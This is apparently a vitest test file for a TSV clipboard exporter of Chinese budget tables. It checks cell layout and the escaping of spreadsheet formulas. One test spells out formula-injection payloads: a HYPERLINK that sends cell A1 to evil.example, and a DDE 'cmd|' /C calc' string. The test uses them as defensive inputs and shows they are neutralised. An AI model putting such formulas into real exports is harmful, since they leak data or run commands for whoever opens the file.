import { describe, expect, it } from 'vitest';
import { hostileTable, incomeTable, performanceTable } from '../../test/export/fixtures.ts';
import { tableTsv } from './tsv.ts';

/** Reads clipboard text back the way a spreadsheet's paste does for fields without quotes. */
function readTsv(text: string): string[][] {
  return text.split('\r\n').map((line) => line.split('\t'));
}

describe('tableTsv', () => {
  it('has no BOM and one line per grid row, width cells each', () => {
    const text = tableTsv(incomeTable());
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    const rows = readTsv(text);
    expect(rows).toHaveLength(8);
    for (const row of rows) expect(row).toHaveLength(8);
    expect(rows[0].slice(0, 4)).toEqual(['功能分类科目编码', '功能分类科目编码', '功能分类科目编码', '功能分类科目名称']);
    expect(rows[5]).toEqual(['201', '03', '50', '事业运行', '35.34', '35.34', '35.34', '']);
    expect(rows[7]).toEqual(['', '', '', '合 计', '515.38', '418.36', '418.36', '97.02']);
  });

  it('turns tabs and line breaks inside cells into spaces, so no cell spills into the next', () => {
    const rows = readTsv(tableTsv(hostileTable()));
    expect(rows).toHaveLength(12);
    for (const row of rows) expect(row).toHaveLength(4);
    const labels = rows.slice(1).map((r) => r[1]);
    expect(labels).toContain('行政 运行');
    expect(labels).toContain('tab here');
    expect(labels).toContain('cr here');
    expect(labels).toContain('a|b');
  });

  it('guards formulas, quotes a leading quote, and writes amounts plain', () => {
    const rows = readTsv(tableTsv(hostileTable()));
    expect(rows[1]).toEqual([`2010301`, `'=HYPERLINK("http://evil.example/?leak="&A1,"点我")`, '1566.00', '03']);
    expect(rows[2][1]).toBe("'+1+cmd|' /C calc'!A0");
    expect(rows[3][1]).toBe("'@x");
    expect(rows[6][1]).toBe('"""三公""经费"');
    expect(rows.slice(1).map((r) => r[2])).toEqual([
      '1566.00',
      '-3.20',
      '-12.50',
      '12.5%',
      '',
      '',
      '12.3.4',
      '0.5',
      '1234567.89',
      '7',
      '100',
    ]);
  });

  it('leaves the covered half of a merged amount empty', () => {
    const rows = readTsv(tableTsv(performanceTable()));
    expect(rows[2]).toEqual(['项目资金 (万元)', '年度预算总额:', '90', '', '其中: 财政拨款', '90']);
    expect(rows[0]).toEqual(['预算单位', ...Array(5).fill('克州人民政府外事办公室')]);
  });
});
